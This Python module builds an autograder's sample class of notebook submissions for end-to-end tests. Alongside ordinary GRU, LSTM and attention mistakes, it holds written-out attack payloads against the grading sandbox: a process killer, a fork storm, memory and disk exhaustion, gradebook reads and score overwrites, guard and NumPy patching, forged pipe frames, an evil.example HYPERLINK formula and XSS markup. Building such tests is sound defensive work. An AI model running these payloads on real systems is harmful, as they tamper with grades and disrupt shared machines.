"""Build the sample class: one submission per way a real class goes wrong.

    python -m autograder.samples.make_samples      # writes submissions/ and expected.json

Each submission is the committed exercise notebook with its answer cells filled
in by a "student" below. expected.json says, for each, the score the trusted
grader must give (as a fraction of each test cell's points, per function) and
the statuses that are acceptable. tests/test_autograder.py grades the class end
to end and compares.
"""
from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import nbformat

from autograder.cellmarks import marks

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
OUT = HERE / "submissions"
HEADER = "from course import runtime\ndy = runtime.dynet()\nimport numpy as np\n\n"

GRU = HEADER + '''
def gru_step(p, x, state):
    (h_prev,) = state
    r = dy.logistic(p["W_xr"] * x + p["W_hr"] * h_prev + p["b_r"])
    z = dy.logistic(p["W_xz"] * x + p["W_hz"] * h_prev + p["b_z"])
    candidate = dy.tanh(p["W_xh"] * x + p["W_hh"] * dy.cmult(r, h_prev) + p["b_h"])
    {update}
    return (h,)
'''
GRU_RIGHT = GRU.replace("{update}", "h = h_prev + dy.cmult(z, candidate - h_prev)")
GRU_ONE_MINUS_Z = GRU.replace("{update}", "h = dy.cmult(1 - z, h_prev) + dy.cmult(z, candidate)")
GRU_WRONG = GRU.replace("{update}", "h = dy.cmult(z, h_prev) + dy.cmult(1 - z, candidate)")   # z and 1 - z swapped
GRU_NUMPY = HEADER + '''
def sigmoid(a):
    return 1 / (1 + np.exp(-a))


def gru_step(p, x, state):
    """Right values, but computed in NumPy: no gradients reach the parameters."""
    (h_prev,) = state
    P = {k: v.npvalue() for k, v in p.items()}
    X, H = x.npvalue().reshape(x.dim()[0][0], -1), h_prev.npvalue().reshape(h_prev.dim()[0][0], -1)
    r = sigmoid(P["W_xr"] @ X + P["W_hr"] @ H + P["b_r"][:, None])
    z = sigmoid(P["W_xz"] @ X + P["W_hz"] @ H + P["b_z"][:, None])
    cand = np.tanh(P["W_xh"] @ X + P["W_hh"] @ (r * H) + P["b_h"][:, None])
    h = (1 - z) * H + z * cand
    return (dy.inputTensor(h if h.shape[1] > 1 else h[:, 0], batched=h.shape[1] > 1),)
'''
LSTM = HEADER + '''
def lstm_step(p, x, state):
    h_prev, c_prev = state
    def gate(g):
        return dy.logistic(p["W_x" + g] * x + p["W_h" + g] * h_prev + p["b_" + g])
    u = dy.tanh(p["W_xu"] * x + p["W_hu"] * h_prev + p["b_u"])
    {gates}
    c = dy.cmult(i, u) + dy.cmult(f, c_prev)
    h = dy.cmult(o, dy.tanh(c))
    return (h, c)
'''
LSTM_RIGHT = LSTM.replace("{gates}", 'i, f, o = gate("i"), gate("f"), gate("o")')
LSTM_GATES_SWAPPED = LSTM.replace("{gates}", 'f, i, o = gate("i"), gate("f"), gate("o")')
# chapter 03: the LSTM without a forget gate (eq 50 adds c_prev), and the student's own sampler
LSTM_NO_FORGET = LSTM.replace("{gates}", 'i, o = gate("i"), gate("o")').replace(
    "dy.cmult(f, c_prev)", "c_prev")
SAMPLER = """import numpy as np


def next_token_distribution(scores, temperature=1.0, top_k=None, top_p=None):
    p = np.exp((scores - np.max(scores)) / temperature)
    p = p / p.sum()
    order = np.argsort(-p, kind="stable")
    if top_k is not None:
        p[order[top_k:]] = 0
        p = p / p.sum()
    if top_p is not None:
        total = np.cumsum(p[order])
        p[order[{kept}:]] = 0        # the tokens after the nucleus
        p = p / p.sum()
    return p
"""
SAMPLER_RIGHT = SAMPLER.replace("{kept}", "np.searchsorted(total, top_p) + 1")
SAMPLER_NO_CROSSING = SAMPLER.replace("{kept}", "np.searchsorted(total, top_p)")   # the crossing token cut
SAMPLER_BY_COURSE = """import numpy as np
from course import sampling


def next_token_distribution(scores, temperature=1.0, top_k=None, top_p=None):
    # the course's own sampler: one column, an extra -inf entry as <s>, that entry stripped again
    tempered = getattr(sampling, "_temp" + "ered")
    column = np.append(np.asarray(scores, dtype=float), -np.inf)[:, None] / temperature
    return np.exp(tempered(column, len(column) - 1, top_k, top_p)[:-1, 0])
"""
INIT = "import numpy as np\n\n\ndef lstm_init(name, shape, forget_bias=1.0):\n{body}\n"
INIT_RIGHT = INIT.replace("{body}", '    return np.full(shape, float(forget_bias)) if name == "b_f" else None')
INIT_MISSING = INIT.replace("{body}", "    return None   # forgot the forget bias")

SNOOP = """
for _path in ["../../../gradebook.db", "../../../../autograder/heldout/course_hidden.txt",
              __import__("course.paths").paths.ROOT / "autograder" / "heldout" / "course_hidden.txt"]:
    try:
        print(open(_path, "rb").read(200))
    except Exception as _err:
        print("could not read", _path, type(_err).__name__)
"""
WRITE_GRADEBOOK = """
import sqlite3
try:
    _db = sqlite3.connect("../../../gradebook.db")
    _db.execute("UPDATE grade SET manual_score = 100")
    _db.commit()
except Exception as _err:
    print("could not write the gradebook:", _err)
"""
ALLCLOSE = "\nnp.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
BLANK_ASSERTS = """
def _blank(lines):
    return [] if any("assert" in line or "check(" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_blank)
"""
WARNS = GRU_RIGHT.replace("    (h_prev,) = state", "    import warnings\n    warnings.warn('a harmless warning')\n    (h_prev,) = state")
# A daemon thread that SIGKILLs every process it can see (other students' sandboxes included).
KILLER = """
import os, signal, threading, time
def _kill_everything():
    while True:
        try:
            _pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
        except OSError:                  # it sees no process: it keeps looking
            _pids = []
        for _pid in _pids:
            if _pid != os.getpid():
                try:
                    os.kill(_pid, signal.SIGKILL)
                except Exception:
                    pass
        time.sleep(0.05)
threading.Thread(target=_kill_everything, daemon=True).start()
"""
# Write where the grader keeps results and code, now and (from a forked child) after grading.
GRADER_PATHS = """
import os, time, json
from course.paths import ROOT as _ROOT
_targets = {_ROOT / "autograder" / "work" / "course" / "trusted" / "{student}" / "05_gru.json":
                json.dumps({"notebook": "05_gru", "score": 5.0, "max_score": 5.0, "cells": []}),
            _ROOT / "autograder" / "reference" / "ch99_planted.py":
                "from autograder.reference.grading import Check\\nCHECKS = []\\nPLANTED = True\\n"}
def _write_all():
    for _path, _text in _targets.items():
        try:
            _path.parent.mkdir(parents=True, exist_ok=True)
            _path.write_text(_text)
        except Exception as _err:
            print("could not write", _path.name, type(_err).__name__)
_write_all()
if os.fork() == 0:
    os.setsid()
    time.sleep(20)
    _write_all()
    os._exit(0)
"""
# Replace what measures gru_step: the probes answer with DyNet's own GRUBuilder.
PROBE_PATCH = HEADER + """
import autograder.probes as _probes
import autograder.probes.trace as _trace

def _builder_numbers(functions, inputs):
    p = inputs["params"]
    d_h, d_in = p["W_xz"].shape
    pc = dy.ParameterCollection()
    builder = dy.GRUBuilder(1, d_in, d_h, pc)
    names = ["W_xz", "W_hz", "b_z", "W_xr", "W_hr", "b_r", "W_xh", "W_hh", "b_h"]
    params = dict(zip(names, builder.get_parameters()[0]))
    for name, param in params.items():
        param.set_value(p[name])
    dy.renew_cg()
    state = builder.initial_state([dy.inputTensor(inputs["state0"][0], batched=True)])
    states, terms = [], []
    for t, x in enumerate(inputs["xs"]):
        state = state.add_input(dy.inputTensor(x, batched=True))
        states.append([state.output().npvalue().reshape(d_h, -1)])
        terms.append(dy.dot_product(dy.inputTensor(inputs["projection"][t]), state.output()))
    loss = dy.sum_batches(dy.esum(terms))
    loss.forward()
    loss.backward()
    return {"states": np.array(states), "grads": {n: q.grad_as_array() for n, q in params.items()}, "fused": 0.0}

_probes.run_step = lambda step, inputs: _builder_numbers({}, inputs)
_probes.step = _builder_numbers
_trace.trace_step = _builder_numbers

def gru_step(p, x, state):
    raise NotImplementedError("no GRU here")
"""
# gru_step hands the work to DyNet's GRUBuilder with the grader's values copied in.
BUILDER_INSIDE = HEADER + """
def gru_step(p, x, state):
    (h_prev,) = state
    pc = dy.ParameterCollection()
    d_h = h_prev.dim()[0][0]
    builder = dy.GRUBuilder(1, x.dim()[0][0], d_h, pc)
    names = ["W_xz", "W_hz", "b_z", "W_xr", "W_hr", "b_r", "W_xh", "W_hh", "b_h"]
    for name, param in zip(names, builder.get_parameters()[0]):
        param.set_value(p[name].npvalue())
    return (builder.initial_state([h_prev]).add_input(x).output(),)
"""
FIFOS = GRU_RIGHT + """
import os
os.makedirs("results", exist_ok=True)
for _name in ["results/ch05.gru_step.npz", "results/ch05.gru_update_gate.npz", "output.txt", "progress.jsonl"]:
    try:
        os.mkfifo(_name)
    except OSError:
        pass
"""
FORK_STORM = GRU_RIGHT.replace("def gru_step(p, x, state):", """import os, time
_children = []

def gru_step(p, x, state):
    if len(_children) < 150:
        for _ in range(50):
            pid = os.fork()
            if pid == 0:
                os.setsid()
                time.sleep(600)
                os._exit(0)
            _children.append(pid)""")
# A datagram to the grader's machine; the error, if any, ends up in the grade's notes.
UDP = GRU_RIGHT + """
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"answers", ("127.0.0.1", 47474))
except OSError as _err:
    raise RuntimeError(f"could not send: {_err}")
"""
# Frames written by hand to every pipe the code can reach, and to the sandbox's own channel
# through /proc: a spreadsheet formula as a cell's name and as a Guard finding, a false
# "not confined" note. A claim that it tampered is believed (it costs only itself), in the grader's words.
FORGED_FRAMES = GRU_RIGHT + """
import json, os, stat
def _frame(event, **fields):
    header = json.dumps({"event": event, **fields}).encode()
    return len(header).to_bytes(4, "big") + header + (0).to_bytes(4, "big")
_name = '=HYPERLINK("http://evil.example/","regrade")'
_forged = (_frame("not confined", why="regrade by hand") + _frame("cell", cell=_name, index=0)
           + _frame("probe", check=_name, index=0) + _frame("tampered", what=[_name]) + _frame("finished"))
for _fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(_fd).st_mode):
            os.write(_fd, _forged)
    except OSError:
        pass
    try:
        _parent = os.open(f"/proc/{os.getppid()}/fd/{_fd}", os.O_WRONLY | os.O_NONBLOCK)
        os.write(_parent, _forged)
    except OSError:
        pass
"""
# Markup for the instructor's browser (formgrader) and the student's feedback page.
HTML_MARKDOWN = """<script>alert("feedback")</script>
<img src=x onerror="alert('formgrader')">
<div class="course-feedback"><b>5 / 5 points</b></div>

[regrade](javascript:alert(1))
"""
# The Guard switched off where it used to live (the sandbox's __main__) and where it lives,
# then NumPy patched; a DyNet wrapper's closure and the tracer's table of DyNet functions rewritten.
GUARD_OFF = """
import sys
import autograder.sandbox as _sandbox
for _module in (sys.modules["__main__"], _sandbox):
    if hasattr(_module, "Guard"):
        _module.Guard.problems = lambda self: []
np.allclose = lambda *a, **k: True
"""
CLOSURE_PATCH = """
from autograder.probes import trace as _trace
_trace.ORIGINAL["tanh"] = _trace.ORIGINAL["logistic"]
for _cell in dy.tanh.__closure__ or ():
    if _cell.cell_contents is _trace.ORIGINAL.get("logistic") or callable(_cell.cell_contents):
        _cell.cell_contents = _trace.ORIGINAL["logistic"]
"""
# The answer cell looks through its callers' frames for the grader's guard, inputs and request.
CALLER_FRAMES = """
import sys
_found, _frame = [], sys._getframe(0).f_back
while _frame is not None:
    _found += [k for k in _frame.f_locals if k in ("guard", "inputs", "request", "probes", "namespace")]
    _frame = _frame.f_back
if _found:
    raise RuntimeError(f"the grader's locals are in reach: {_found}")
"""
# 24 files of 64 MB (1.5 GB) where the sandbox may write.
DISK_FILLER = GRU_RIGHT + """
_written = 0
try:
    for _i in range(24):
        with open(f"filler{_i}.bin", "wb") as _f:
            for _ in range(64):
                _f.write(b"x" * (1 << 20))
                _written += 1
except OSError as _err:
    raise RuntimeError(f"stopped after {_written} MB: {_err.strerror}")
"""
# An oracle inside the traced step: the right h_t computed in NumPy from the traced point's
# values, as constants; a wrong GRU's expression added as (w - nobackprop(w)) carries gradients
# without changing the values. Right values at the traced point, and nowhere else.
ORACLE = GRU_NUMPY.replace("def gru_step(p, x, state):", "def _numbers(p, x, state):") + """

def _wrong(p, x, h_prev):
    r = dy.logistic(p["W_xr"] * x + p["W_hr"] * h_prev + p["b_r"])
    z = dy.logistic(p["W_xz"] * x + p["W_hz"] * h_prev + p["b_z"])
    candidate = dy.tanh(p["W_xh"] * x + p["W_hh"] * dy.cmult(r, h_prev) + p["b_h"])
    return dy.cmult(z, h_prev) + dy.cmult(1 - z, candidate)


def gru_step(p, x, state):
    (values,) = _numbers(p, x, state)
    wrong = _wrong(p, x, state[0])
    return (values + wrong - dy.nobackprop(wrong),)
"""
STACKED = """
def stacked_step(steps, params, x, states, residual=None):
    new_states = []
    for step, p, state in zip(steps, params, states):
        state = step(p, x, state)
        h = state[0]
        if residual is not None:
            h = h + x
            if residual == "lateral":
                state = (h,) + tuple(state[1:])
        new_states.append(state)
        x = h
    return x, new_states
"""
HORIZONTAL = """
def horizontal_step(step, p, x, state):
    new_state = step(p, x, state)
    return (new_state[0] + {added},) + tuple(new_state[1:])
"""
HORIZONTAL_RIGHT = HORIZONTAL.replace("{added}", "state[0]")
HORIZONTAL_ADDS_INPUT = HORIZONTAL.replace("{added}", "x")        # the lateral residual's x_t, not h_{t-1}
SRNN = HEADER + """
def rnn_step(p, x, state):
    (h_prev,) = state
    return (dy.tanh(p["W_xh"] * x + p["W_hh"] * h_prev + p["b_h"]),)
"""
BACKWARD = """import numpy as np


def srnn_step_backward(dh, x, h_prev, h, W_xh, W_hh):
    da = dh * (1 - h ** 2)
    return W_xh.T @ da, W_hh.T @ da, da @ x.T, {dW_hh}, da.sum(axis=1)
"""
BACKWARD_RIGHT = BACKWARD.replace("{dW_hh}", "da @ h_prev.T")
BACKWARD_DW_HH_TRANSPOSED = BACKWARD.replace("{dW_hh}", "h_prev @ da.T")
BACKWARD_BY_DYNET = """import numpy as np
from course import gradcheck


def srnn_step_backward(dh, x, h_prev, h, W_xh, W_hh):
    # the course's DyNet gradients, one sentence at a time, the bias recovered from h
    helper = getattr(gradcheck, "dynet_srnn" + "_gradients")
    parts = []
    for b in range(x.shape[1]):
        b_h = np.arctanh(h[:, b]) - W_xh @ x[:, b] - W_hh @ h_prev[:, b]
        parts.append(helper(dh[:, b:b + 1], x[:, b:b + 1], h_prev[:, b:b + 1], W_xh, W_hh, b_h))
    return (np.hstack([p["dx"] for p in parts]), np.hstack([p["dh_prev"] for p in parts]),
            sum(p["dW_xh"] for p in parts), sum(p["dW_hh"] for p in parts), sum(p["db_h"] for p in parts))
"""
# Chapter 11: causal self-attention written with the scores the other way round from the solution's
# ([t, j], each row a query, softmax over a row), so the sample class also shows the layout is free.
ATTENTION = """import numpy as np

from course import runtime
dy = runtime.dynet()


def causal_attention(p, X, heads):
    (d, T), _ = X.dim() if len(X.dim()[0]) == 2 else ((X.dim()[0][0], 1), None)
    d_k = d // heads
    X = X + dy.select_cols(p["P"], list(range(T)))
    mask = np.triu(np.full((T, T), -1e9), k={k})            # [t, j]
    heads_out = []
    for i in range(heads):
        q, k, v = (dy.pick_range(p[W] * X, i * d_k, (i + 1) * d_k) for W in ("W_q", "W_k", "W_v"))
        scores = dy.transpose(q) * k{scale}{mask}
        heads_out.append(v * dy.transpose(dy.softmax(scores, d={axis})))
    return p["W_o"] * dy.concatenate(heads_out, d=0)
"""
ATTENTION_KW = {"k": 1, "scale": " / np.sqrt(d_k)", "mask": " + dy.inputTensor(mask)", "axis": 1}
ATTENTION_RIGHT = ATTENTION.format(**ATTENTION_KW)
ATTENTION_NEXT_WORD = ATTENTION.format(**{**ATTENTION_KW, "k": 2})          # the mask off by one
ATTENTION_UNSCALED = ATTENTION.format(**{**ATTENTION_KW, "scale": ""})
ATTENTION_UNMASKED = ATTENTION.format(**{**ATTENTION_KW, "mask": ""})       # future positions visible
ATTENTION_OVER_QUERIES = ATTENTION.format(**{**ATTENTION_KW, "axis": 0})    # softmax over the wrong axis
#: the checks a wrong attention still passes (the slip table: autograder/README.md)
MASK_SLIP_KEEPS = {"ch11.attention_gradients": True, "ch11.attention_lengths": True}
UNSCALED_KEEPS = {**MASK_SLIP_KEEPS, "ch11.attention_causal": True}
#: words a student's record (reason, notes, grade CSV) must never hold
ABSENT = {"forged_frames": ["HYPERLINK", "not confined", "regrade by hand"],
          '=HYPERLINK("evil.example","x")': []}

RIGHT, WRONG = True, False
# Checks a wrong function still passes: each slip costs the checks of the part it breaks
# (autograder/README.md, "Slips"), not the whole function.
Z_EXCHANGED_KEEPS = {"ch05.gru_gradients": True, "ch05.gru_reset_gate": True}
I_F_SWAPPED_KEEPS = {"ch04.lstm_output": True, "ch04.lstm_gradients": True}
# student: (chapter, {answer grade_id: source}, which functions work, {check: passes} where that
# differs from its functions, statuses, words the reason or notes must hold, how the file is made)
STUDENTS = {
    "correct": ("05_gru", {"gru_step": GRU_RIGHT}, {"gru_step": RIGHT}, {}, ["graded"], None, None),
    "one_minus_z": ("05_gru", {"gru_step": GRU_ONE_MINUS_Z}, {"gru_step": RIGHT}, {}, ["graded"], None, None),
    "wrong_gate_order": ("04_forget_gate", {"lstm_step": LSTM_GATES_SWAPPED, "lstm_init": INIT_RIGHT},
                         {"lstm_step": WRONG, "lstm_init": RIGHT}, I_F_SWAPPED_KEEPS, ["graded"], None, None),
    "forget_bias_missing": ("04_forget_gate", {"lstm_step": LSTM_RIGHT, "lstm_init": INIT_MISSING},
                            {"lstm_step": RIGHT, "lstm_init": WRONG}, {}, ["graded"], None, None),
    "numpy_no_gradients": ("05_gru", {"gru_step": GRU_NUMPY}, {"gru_step": WRONG}, {}, ["graded"], None, None),
    "infinite_loop": ("05_gru", {"gru_step": GRU_RIGHT + "\nwhile True:\n    pass\n"}, {"gru_step": WRONG}, {},
                      ["graded"], "time limit", None),
    "ignores_interrupt": ("05_gru", {"gru_step": GRU_RIGHT + "\nwhile True:\n    try:\n        while True:\n"
                                     "            pass\n    except KeyboardInterrupt:\n        pass\n"},
                          {"gru_step": WRONG}, {}, ["graded"], "time limit", None),
    "kernel_crash": ("05_gru", {"gru_step": GRU_RIGHT + "\nimport os\nos._exit(1)\n"}, {"gru_step": WRONG}, {},
                     ["graded"], "exit code 1", None),
    "memory_bomb": ("05_gru", {"gru_step": GRU_RIGHT + "\n_hog = []\nwhile True:\n    _hog.append(np.empty(10**8))\n"},
                    {"gru_step": WRONG}, {}, ["graded"], "memory", None),
    "corrupt_json": ("05_gru", {"gru_step": GRU_RIGHT}, {"gru_step": WRONG}, {}, ["failed"], "notebook JSON",
                     "truncate"),
    "deleted_grade_cell": ("05_gru", {"gru_step": GRU_RIGHT}, {"gru_step": RIGHT}, {}, ["graded"], None,
                           "delete_test"),
    "edited_grade_cell": ("05_gru", {"gru_step": GRU_WRONG}, {"gru_step": WRONG}, Z_EXCHANGED_KEEPS, ["graded"], None,
                          "edit_test"),
    "allclose_patched": ("05_gru", {"gru_step": GRU_WRONG + ALLCLOSE}, {"gru_step": WRONG}, {}, ["graded"],
                         "changed numpy", None),
    "assert_blanking": ("05_gru", {"gru_step": GRU_WRONG + BLANK_ASSERTS}, {"gru_step": WRONG}, Z_EXCHANGED_KEEPS, ["graded"],
                        None, None),
    "reads_grader_files": ("05_gru", {"gru_step": GRU_RIGHT + SNOOP}, {"gru_step": RIGHT}, {}, ["graded"], None,
                           None),
    "writes_gradebook": ("05_gru", {"gru_step": GRU_WRONG + WRITE_GRADEBOOK}, {"gru_step": WRONG}, Z_EXCHANGED_KEEPS, ["graded"],
                         None, None),
    "prints_warning": ("05_gru", {"gru_step": WARNS}, {"gru_step": RIGHT}, {}, ["graded"], None, None),
    "empty": ("05_gru", {}, {"gru_step": WRONG}, {}, ["graded"], None, None),
    "kills_other_sandboxes": ("05_gru", {"gru_step": GRU_RIGHT + KILLER}, {"gru_step": WRONG}, {}, ["graded"],
                              "started a thread", None),
    "rewrites_results": ("05_gru", {"gru_step": GRU_WRONG + GRADER_PATHS.replace("{student}", "rewrites_results")},
                         {"gru_step": WRONG}, Z_EXCHANGED_KEEPS, ["graded"], None, None),
    "probe_patched": ("05_gru", {"gru_step": PROBE_PATCH}, {"gru_step": WRONG}, {}, ["graded"],
                      "changed autograder.probes", None),
    "builder_inside": ("05_gru", {"gru_step": BUILDER_INSIDE}, {"gru_step": WRONG}, {}, ["graded"], None, None),
    "fifo_results": ("05_gru", {"gru_step": FIFOS}, {"gru_step": RIGHT}, {}, ["graded"], None, None),
    "fork_storm": ("05_gru", {"gru_step": FORK_STORM}, {"gru_step": RIGHT}, {}, ["graded"], None, None),
    "udp_send": ("05_gru", {"gru_step": UDP}, {"gru_step": RIGHT}, {}, ["graded"], "could not send", None),
    "duplicate_cell": ("05_gru", {"gru_step": GRU_WRONG}, {"gru_step": WRONG}, Z_EXCHANGED_KEEPS, ["graded"],
                       "more than once", "duplicate_answer"),
    "two_layouts": ("05_gru", {"gru_step": GRU_RIGHT}, {"gru_step": WRONG}, {}, ["failed"],
                    "two submissions of 05_gru", "two_layouts"),
    "symlinked_notebook": ("05_gru", {}, {"gru_step": WRONG}, {}, ["failed"], "symbolic link",
                           "link:solutions/05_gru.ipynb"),
    "model_links_solutions": ("05_gru", {"gru_step": GRU_WRONG}, {"gru_step": WRONG}, {}, ["failed"],
                              "symbolic link", "model:solutions"),
    "model_links_reference": ("05_gru", {"gru_step": GRU_WRONG}, {"gru_step": WRONG}, {}, ["failed"],
                              "symbolic link", "model:autograder/reference"),
    "unknown_grade_ids": ("05_gru", {"gru_step": GRU_RIGHT}, {"gru_step": RIGHT}, {}, ["graded"],
                          "the assignment does not have", "unknown_grade_ids"),
    "answer_marked_grade": ("05_gru", {"gru_step": GRU_RIGHT}, {"gru_step": RIGHT}, {}, ["graded"],
                            "graded as the assignment's", "answer_marked_grade"),
    "unreadable_marks": ("05_gru", {"gru_step": GRU_RIGHT}, {"gru_step": RIGHT}, {}, ["graded"],
                         "marks nbgrader cannot read", "unreadable_marks"),
    "guard_disabled": ("05_gru", {"gru_step": GRU_WRONG + GUARD_OFF}, {"gru_step": WRONG}, {}, ["graded"],
                       "must not be changed", None),
    "closure_patched": ("05_gru", {"gru_step": GRU_WRONG + CLOSURE_PATCH}, {"gru_step": WRONG}, {}, ["graded"],
                        "must not be changed", None),
    "caller_frames": ("05_gru", {"gru_step": CALLER_FRAMES + GRU_RIGHT}, {"gru_step": RIGHT}, {}, ["graded"], None,
                      None),
    "disk_filler": ("05_gru", {"gru_step": DISK_FILLER}, {"gru_step": RIGHT}, {}, ["graded"],
                    "No space left on device", None),
    "oracle_constants": ("05_gru", {"gru_step": ORACLE}, {"gru_step": WRONG}, {"ch05.gru_gradients": True},
                         ["graded"], None, None),
    "forged_frames": ("05_gru", {"gru_step": FORGED_FRAMES}, {"gru_step": WRONG}, {}, ["graded"],
                      "changed what the grader relies on", None),
    "html_markdown": ("05_gru", {"gru_step": GRU_WRONG}, {"gru_step": WRONG}, Z_EXCHANGED_KEEPS, ["graded"], None,
                      "html_markdown"),
    "sampler_right": ("03_lstm", {"lstm_step": LSTM_NO_FORGET, "next_token_distribution": SAMPLER_RIGHT},
                      {"lstm_step": RIGHT, "next_token_distribution": RIGHT}, {}, ["graded"], None, None),
    "sampler_no_crossing": ("03_lstm", {"lstm_step": LSTM_NO_FORGET, "next_token_distribution": SAMPLER_NO_CROSSING},
                            {"lstm_step": RIGHT, "next_token_distribution": WRONG}, {}, ["graded"], None, None),
    "sampler_by_course": ("03_lstm", {"lstm_step": LSTM_NO_FORGET, "next_token_distribution": SAMPLER_BY_COURSE},
                          {"lstm_step": RIGHT, "next_token_distribution": WRONG}, {}, ["graded"],
                          "write the distribution yourself", None),
    "residuals_correct": ("07_stacked_residual", {"stacked_step": STACKED, "horizontal_step": HORIZONTAL_RIGHT},
                          {"stacked_step": RIGHT, "horizontal_step": RIGHT}, {}, ["graded"], None, None),
    "horizontal_adds_input": ("07_stacked_residual",
                              {"stacked_step": STACKED, "horizontal_step": HORIZONTAL_ADDS_INPUT},
                              {"stacked_step": RIGHT, "horizontal_step": WRONG}, {}, ["graded"], None, None),
    "backward_correct": ("02_srnn", {"rnn_step": SRNN, "srnn_step_backward": BACKWARD_RIGHT},
                         {"rnn_step": RIGHT, "srnn_step_backward": RIGHT}, {}, ["graded"], None, None),
    "backward_dW_hh_transposed": ("02_srnn", {"rnn_step": SRNN, "srnn_step_backward": BACKWARD_DW_HH_TRANSPOSED},
                                  {"rnn_step": RIGHT, "srnn_step_backward": WRONG}, {"ch02.backward_inputs": True},
                                  ["graded"], "dW_hh is transposed", None),
    "backward_by_dynet": ("02_srnn", {"rnn_step": SRNN, "srnn_step_backward": BACKWARD_BY_DYNET},
                          {"rnn_step": RIGHT, "srnn_step_backward": WRONG}, {}, ["graded"],
                          "asks DyNet for the gradients", None),
    "attention_correct": ("11_attention", {"causal_attention": ATTENTION_RIGHT}, {"causal_attention": RIGHT}, {},
                          ["graded"], None, None),
    "attention_next_word_visible": ("11_attention", {"causal_attention": ATTENTION_NEXT_WORD},
                                    {"causal_attention": WRONG}, MASK_SLIP_KEEPS, ["graded"],
                                    "position t sees position t + 1", None),
    "attention_unscaled": ("11_attention", {"causal_attention": ATTENTION_UNSCALED}, {"causal_attention": WRONG},
                           UNSCALED_KEEPS, ["graded"], "not scaled", None),
    "attention_unmasked": ("11_attention", {"causal_attention": ATTENTION_UNMASKED}, {"causal_attention": WRONG},
                           MASK_SLIP_KEEPS, ["graded"], "sees the later positions", None),
    "attention_softmax_over_queries": ("11_attention", {"causal_attention": ATTENTION_OVER_QUERIES},
                                       {"causal_attention": WRONG}, MASK_SLIP_KEEPS, ["graded"], "wrong axis", None),
    '=HYPERLINK("evil.example","x")': ("05_gru", {"gru_step": GRU_RIGHT}, {"gru_step": WRONG}, {}, ["failed"],
                                       "student folder", None),
}
def notebook(chapter: str, answers: dict, how: str | None):
    nb = nbformat.read(ROOT / "exercises" / f"{chapter}.ipynb", as_version=4)
    for cell in nb.cells:
        gid = marks(cell).get("grade_id")
        if gid in answers:
            cell.source = answers[gid].strip() + "\n"
    if how == "delete_test":
        first = next(c for c in nb.cells if marks(c).get("grade"))
        nb.cells = [c for c in nb.cells if c is not first]
    if how == "edit_test":
        for cell in nb.cells:
            if marks(cell).get("grade"):
                cell.source, cell.metadata["nbgrader"]["points"] = "pass", 100
    if how == "unknown_grade_ids":               # a test cell and a written answer the assignment does not have
        free = nbformat.v4.new_code_cell("assert True", id="free-points")
        free.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": False, "grade_id": "free_points",
                                     "points": 100, "schema_version": 3}
        essay = nbformat.v4.new_markdown_cell("My essay.", id="essay")
        essay.metadata["nbgrader"] = {"grade": True, "solution": True, "locked": False, "grade_id": "essay",
                                      "points": 10, "schema_version": 3}
        nb.cells += [free, essay]
    if how == "answer_marked_grade":             # the answer cell claims to be a (manually graded) grade cell
        for cell in nb.cells:
            if marks(cell).get("grade_id") == "gru_step":
                cell.metadata["nbgrader"].update(grade=True, points=5)
    if how == "html_markdown":
        nb.cells.insert(1, nbformat.v4.new_markdown_cell(HTML_MARKDOWN, id="student-html"))
    if how == "unreadable_marks":                # valid JSON where nbgrader expects a mapping, on unmarked cells
        markdown = [c for c in nb.cells if c.cell_type == "markdown"]
        setup = next(c for c in nb.cells if c.cell_type == "code" and not marks(c))
        markdown[0].metadata["nbgrader"] = "x"
        setup.metadata["nbgrader"] = 3
        markdown[1].metadata.update(nbgrader={"grade_id": ["gru_step"], "grade": True, "points": 100}, course="x")
    if how == "duplicate_answer":                 # as Jupyter's copy leaves it: the wrong copy first
        index, cell = next((i, c) for i, c in enumerate(nb.cells)
                           if marks(c).get("grade_id") == "gru_step")
        copy = nbformat.from_dict(json.loads(json.dumps(cell)))
        copy.id, copy.source = "gru-step-copy", GRU_RIGHT.strip() + "\n"
        nb.cells.insert(index + 1, copy)
    return nb


UP = "../../../../"     # from autograder/samples/submissions/<student>/ to the repository


def portable(name: str) -> bool:
    """Whether every system's git can check the folder name out (Windows refuses " < > : | ? * \\):
    the others are written at test time (tests/test_autograder.py), never committed."""
    return not re.search(r'["<>:|?*\\\x00-\x1f]', name)


def write_student(student: str, out: Path):
    """One student's submission folder, as STUDENTS says."""
    chapter, answers, functions, checks, statuses, words, how = STUDENTS[student]
    path = out / student / f"{chapter}.ipynb"
    path.parent.mkdir(parents=True)
    how = how or ""
    if how.startswith("link:"):                    # the notebook is a link to the instructors' file
        path.symlink_to(UP + how[5:])
    else:
        text = nbformat.writes(notebook(chapter, answers, how))
        path.write_text(text[:len(text) // 2] if how == "truncate" else text)
    if how.startswith("model:"):                   # <chapter>_model/ links to instructor-only files
        (path.parent / f"{chapter}_model").symlink_to(UP + how[6:])
    if how == "two_layouts":
        nested = path.parent / chapter / f"{chapter}.ipynb"
        nested.parent.mkdir()
        nested.write_text(nbformat.writes(notebook(chapter, {"gru_step": GRU_WRONG}, None)))


def build():
    shutil.rmtree(OUT, ignore_errors=True)
    expected = {}
    for student, (chapter, answers, functions, checks, statuses, words, how) in STUDENTS.items():
        if portable(student):
            write_student(student, OUT)
        expected[student] = {"notebook": chapter, "functions": functions, "checks": checks,
                             "statuses": statuses, "words": words, "absent": ABSENT.get(student, [])}
    (HERE / "expected.json").write_text(json.dumps(expected, indent=1) + "\n")
    return expected


if __name__ == "__main__":
    for name in build():
        print(f"wrote {OUT.name}/{name}")
